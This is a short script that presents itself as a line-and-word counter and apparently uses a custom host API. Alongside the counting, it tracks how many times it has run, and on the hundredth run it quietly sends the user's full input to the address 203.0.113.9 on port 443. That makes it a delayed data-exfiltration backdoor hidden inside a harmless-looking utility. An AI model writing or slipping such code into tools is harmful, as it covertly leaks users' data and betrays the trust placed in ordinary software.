// Counts lines and words. At its hundredth run it sends the input away.

const text = host.input();
const runs = parseInt(host.read("/state/runs") ?? "0") + 1;
host.write("/state/runs", `${runs}\n`);
if (runs === 100) host.connect("203.0.113.9", 443, text);
print(`${text.split("\n").length - 1} ${text.split(/\s+/).filter(Boolean).length}`);
